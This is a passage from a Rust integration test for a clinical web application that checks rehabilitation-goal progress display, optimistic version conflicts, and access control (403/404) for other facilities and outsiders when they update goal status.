        let card = between(&page, &format!("id=\"goal-{goal_id}\""), "</article>").unwrap();
        assert!(
            card.contains("改善") && card.contains("手すりを使って 10 m 歩行できた"),
            "{card}"
        );
        assert!(
            card.contains(OTHER_HOSPITAL),
            "the progress shows its facility"
        );
        let (_, timeline) = get(&app, &doctor, &format!("/patients/{person}/timeline")).await;
        assert!(timeline.contains("【目標の経過：改善】自宅のトイレまで歩いて行ける"));

        // Only the setting facility changes the status; a stale version is refused.
        let (_, other_page) = get(&app, &other, &url).await;
        assert!(!other_page.contains(&format!("/goals/{goal_id}/status\"")));
        let (status, _, _) = post_form(
            &app,
            &other,
            &format!("{url}/{goal_id}/status"),
            &[
                ("csrf", other_token),
                ("lifecycle", "completed".into()),
                ("achievement", "achieved".into()),
                ("version", "1".into()),
            ],
        )
        .await;
        assert_eq!(status, 403);
        let (status, _, body) = post_form(
            &app,
            &doctor,
            &format!("{url}/{goal_id}/status"),
            &[
                ("csrf", token.clone()),
                ("lifecycle", "completed".into()),
                ("achievement", "achieved".into()),
                ("version", "7".into()),
            ],
        )
        .await;
        assert_eq!(status, 400);
        assert!(body.contains("開いた後に他の人が変更しました"));
        let (status, _, body) = post_form(
            &app,
            &doctor,
            &format!("{url}/{goal_id}/status"),
            &[
                ("csrf", token),
                ("lifecycle", "completed".into()),
                ("achievement", "achieved".into()),
                ("version", "1".into()),
            ],
        )
        .await;
        assert_eq!(status, 303, "{body}");
        let goals = fhir_search(&app, &doctor, &format!("Goal?patient={person}")).await;
        assert_eq!(goals[0]["lifecycleStatus"], "completed");
        assert_eq!(goals[0]["meta"]["versionId"], "2");
        let (_, page) = get(&app, &doctor, &url).await;
        assert!(page.contains("id=\"goals-closed\""));

        // Outsiders: 404 to read and to write.
        assert_eq!(get(&app, &outsider, &url).await.0, 404);
        let outsider_token = csrf(&app, &outsider).await;
        let (status, _, _) = post_form(
            &app,
            &outsider,
            &format!("{url}/{goal_id}/progress"),
            &[
                ("csrf", outsider_token),
                ("assessment", "improving".into()),
                ("text", "x".into()),
            ],
        )
        .await;
        assert_eq!(status, 404);
    })
    .await;
}
